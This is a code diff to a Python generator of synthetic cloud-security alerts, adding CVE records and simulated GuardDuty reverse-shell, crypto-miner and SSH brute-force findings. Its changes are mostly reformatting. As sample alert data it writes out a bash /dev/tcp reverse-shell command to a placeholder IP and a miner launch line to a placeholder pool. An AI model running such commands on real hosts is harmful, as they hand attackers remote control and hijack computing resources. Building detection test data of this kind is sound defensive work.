@@ -11,7 +11,9 @@ from isthmus.model.severity import Severity
 CRITICAL, HIGH, MEDIUM, LOW = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW
 
 DOORS = (
-    Vulnerability("CVE-2022-26134", "confluence-server", "7.17.3", "7.17.4", 9.8, epss=0.94, exploited=True, exploit_exists=True),
+    Vulnerability(
+        "CVE-2022-26134", "confluence-server", "7.17.3", "7.17.4", 9.8, epss=0.94, exploited=True, exploit_exists=True
+    ),
     Vulnerability("CVE-2023-46604", "activemq-broker", "5.17.4", "5.17.6", 9.8, epss=0.94, exploited=True, exploit_exists=True),
     Vulnerability("CVE-2024-27198", "teamcity-server", "2023.11.3", "2023.11.4", 9.8, epss=0.94, exploited=True),
     Vulnerability("CVE-2021-44228", "log4j-core", "2.14.1", "2.17.1", 10.0, epss=0.94, exploited=True, exploit_exists=True),
@@ -40,7 +42,7 @@ def _shell_and_miner(scene: Scene, host: Asset) -> None:
     own, attacker = host.ids[-1], f"192.0.2.{scene.rng.randrange(10, 120)}"
     pool = f"pool-{scene.rng.randrange(100, 999)}.example"
     shell = seen(ip=attacker, process=f"bash -i >& /dev/tcp/{attacker}/4444 0>&1")
-    miner = f"/tmp/.x/kworkerd -o stratum+tcp://{pool}:3333 --donate-level 0"
+    miner = f"/tmp/.x/kworkerd -o stratum+tcp://{pool}:3333 --donate-level 0"  # noqa: S108 - what a miner was started as
     rule, title = "Execution:Runtime/ReverseShell", f"A process on EC2 instance {own} opened a reverse shell."
     scene.copied(scene.threat(4, "guardduty", host, HIGH, rule, title, shell, attack=("T1059.004",)))
     title = f"A shell on {host.name} was started by a web server process"
@@ -77,7 +79,10 @@ def _guessed(scene: Scene, first: Asset) -> None:
     attacker = f"192.0.2.{scene.rng.randrange(130, 140)}"
     group = scene.company.tied(first, "guarded_by")
     scene.risk("securityhub", group, HIGH, "EC2.13", "Security groups should not allow ingress from 0.0.0.0/0 to port 22")
-    rule, title = "UnauthorizedAccess:EC2/SSHBruteForce", f"{attacker} is performing SSH brute force attacks against {first.ids[-1]}."
+    rule, title = (
+        "UnauthorizedAccess:EC2/SSHBruteForce",
+        f"{attacker} is performing SSH brute force attacks against {first.ids[-1]}.",
+    )
     scene.copied(scene.threat(2, "guardduty", first, LOW, rule, title, seen(ip=attacker), internet=True, attack=("T1110",)))
     title = f"Successful SSH login to {first.name} after many failures from {attacker}"
     scene.threat(26, "lacework", first, MEDIUM, "SuspiciousLogin", title, seen(ip=attacker))
